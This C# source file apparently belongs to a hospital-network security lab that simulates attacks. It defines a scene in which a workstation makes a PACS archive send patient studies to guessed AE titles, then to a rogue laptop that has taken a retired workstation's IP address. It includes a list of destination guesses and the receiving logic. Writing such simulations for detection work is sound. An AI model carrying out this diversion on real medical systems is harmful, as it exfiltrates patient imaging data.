using Wardkeeper.Lab.Attacks.Network;
using Wardkeeper.Lab.Day;
using Wardkeeper.Lab.Hospital;
using Wardkeeper.Lab.Services;
using Wardkeeper.Lab.Services.Dicom;
using Wardkeeper.Lab.Site;

namespace Wardkeeper.Lab.Attacks.Dicom;

/// <summary>
/// Somebody at a workstation that may retrieve has the archive send studies elsewhere: to the AE title of a workstation that is gone and whose address a laptop took, or to one guessed title after another.
/// </summary>
internal sealed class Diversion() : Scene("dicom-divert",
    "A workstation has the archive move studies to the AE title of a machine long gone, whose address a laptop took, or tries one destination after another.",
    "一台工作站让影像归档系统把检查发送到早已停用机器的 AE 标题（其地址已被笔记本电脑占用），或逐个尝试目的地。",
    "T1020", "T1213")
{
    private static readonly string[] Guesses = ["STORESCP", "HOROS", "OSIRIX", "WEASIS", "RADIANT", "EXPORT", "TELERAD", "BACKUP", "RESEARCH", "ORTHANC2", "CLOUD", "GATEWAY", "USB", "CDBURN"];

    /// <inheritdoc/>
    public override IReadOnlyList<Requirement> Needs => [CardTool.Pinging, new("storescp", "dcmtk"), new("storescu", "dcmtk"), new("dcmsend", "dcmtk"), .. Retrieval.Needs];

    /// <inheritdoc/>
    public override async Task<SceneReport> RunAsync(SceneStage stage, CancellationToken cancel)
    {
        HospitalDevice archive = stage.Dice.Of(Cast.Archives(stage.Site)), station = stage.Dice.Of(Cast.Callers(stage.Site, _ => true));
        Exam[] exams = await Examinations.WeekAsync(stage, archive, null, cancel);
        RetiredStation? retired = stage.Dice.For("way").Chance(60) ? RetiredStation.Of(stage.Site) : null;
        string[] guesses = retired is null || stage.Dice.Chance(30) ? stage.Dice.Some(Guesses, stage.Dice.Between(5, Guesses.Length)) : [];
        string[] studies = [.. stage.Dice.Some(exams, stage.Dice.Between(1, 5)).Select(exam => exam.StudyUid)];
        HostNamespace host = stage.Site[station.Key];
        HostNamespace? laptop = retired is null ? null : await stage.PlugAsync(RogueDevice.In(stage, retired.Department) with { Ip = retired.Ip }, cancel);
        // The archive may still know another card behind the address.
        if (laptop is not null) await CardTool.PingAsync(stage, laptop, archive.Ip, 3, TimeSpan.FromMilliseconds(500), cancel);

        stage.Begin();
        foreach (string guess in guesses)
        {
            if (await Retrieval.SendAsync(stage, host, archive, station.AeTitle!, guess, studies[0], cancel)) throw new LabException($"{archive.Key} knows the destination {guess}");
            await Task.Delay(stage.Dice.Time(50, 600), cancel);
        }
        if (laptop is not null) await ReceiveAsync(stage, laptop, host, archive, station.AeTitle!, retired!.AeTitle, studies, cancel);
        return new SceneReport([Examinations.CallsTo(archive, station), .. laptop is null ? [] : new[] { AllOf(laptop) }],
            [("station", station.Key), ("archive", archive.Key), ("guessed", SceneStage.Text(guesses.Length)), .. laptop is null ? [] : new[] { ("attacker", laptop.Device.Ip.ToString()), ("destination", retired!.AeTitle), ("moved", SceneStage.Text(studies.Length)) }]);
    }

    private static async Task ReceiveAsync(SceneStage stage, HostNamespace laptop, HostNamespace host, HospitalDevice archive, string title, string destination, string[] studies, CancellationToken cancel)
    {
        string folder = stage.Folder("diverted");
        await using RunningProgram receiver = await Retrieval.ListenAsync(stage, laptop, destination, folder, cancel);
        foreach (string study in studies)
        {
            if (!await Retrieval.SendAsync(stage, host, archive, title, destination, study, cancel)) throw new LabException($"{archive.Key} does not move {study} to {destination}");
            await Task.Delay(stage.Dice.Time(100, 900), cancel);
        }
        if (!Directory.EnumerateFiles(folder).Any()) throw new LabException($"nothing arrived at {destination}");
    }
}
